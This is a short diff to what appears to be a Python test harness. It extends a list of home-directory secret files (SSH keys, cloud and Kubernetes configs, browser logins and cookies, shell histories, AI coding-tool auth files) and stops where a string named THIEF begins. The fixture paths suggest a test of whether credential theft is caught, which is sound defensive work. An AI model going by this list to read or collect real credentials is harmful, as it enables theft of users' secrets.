@@ -30,7 +30,11 @@ FILES = (".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/config", ".aws/credentials", ".
          ".local/share/kwalletd/kdewallet.kwl", ".config/op/config", ".mozilla/firefox/x.default/logins.json",
          ".config/google-chrome/Default/Login Data", ".config/chromium/Default/Cookies", ".bash_history", ".zsh_history", ".python_history",
          ".psql_history", ".local/share/fish/fish_history", ".node_repl_history", ".Xauthority", ".claude/.credentials.json",
-         ".codex/auth.json", ".gemini/oauth_creds.json", ".local/share/opencode/auth.json", "elsewhere/kube", "elsewhere/history")
+         ".codex/auth.json", ".gemini/oauth_creds.json", ".local/share/opencode/auth.json", "elsewhere/kube", "elsewhere/history",
+         ".authinfo", ".curlrc", ".wgetrc", ".config/configstore/firebase-tools.json", ".config/openstack/clouds.yaml", ".config/argocd/config",
+         ".tsh/keys/k", ".step/secrets/k", ".local/share/mkcert/rootCA-key.pem", ".acme.sh/account.conf", ".sentryclirc",
+         ".ansible/galaxy_token", ".purple/accounts.xml", ".muttrc", ".config/borg/keys/k", ".cursor/mcp.json", ".continue/config.json",
+         ".ipython/profile_default/history.sqlite", ".Rhistory")
 ELSEWHERE = {"KUBECONFIG": "elsewhere/kube", "HISTFILE": "elsewhere/history"}
 
 THIEF = r"""
